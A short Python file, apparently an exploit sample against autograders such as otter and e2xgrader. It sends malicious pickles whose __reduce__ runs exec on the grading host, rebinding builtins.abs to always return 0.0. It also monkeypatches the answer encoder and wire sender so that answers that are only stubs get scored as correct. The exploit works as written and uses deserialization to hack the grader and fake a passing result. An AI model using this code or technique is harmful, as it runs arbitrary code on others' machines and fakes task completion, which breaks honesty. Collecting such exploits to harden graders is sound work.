"""Answers are pickles that run code in whoever loads them.

Falls for it: otter, e2xgrader (anchors: unpickling on the host).
Honest points: 0
Channel: yes
"""

# %% media
import pickle

from autograder.execution import wire
from autograder.execution.answering import Answerer

CODE = "import builtins; builtins.abs = lambda value: 0.0"


class Bomb:
    def __reduce__(self):
        return exec, (CODE,)


def lie(self, value, *args, **kwargs):
    if type(value) is dict:  # the names, which are asked first
        return encode(self, value, *args, **kwargs)
    return pickle.dumps(Bomb(), protocol=len(sent) % 6)


encode, send, sent = Answerer._encode, wire.send, []


def send_pickles(channel, payload):
    sent.append(payload)
    send(channel, pickle.dumps(Bomb()) if len(sent) > 8 else payload)


Answerer._encode = lie
wire.send = send_pickles


def answer(*_):
    return 0.0


media = answer
# %% pendiente
pendiente = answer
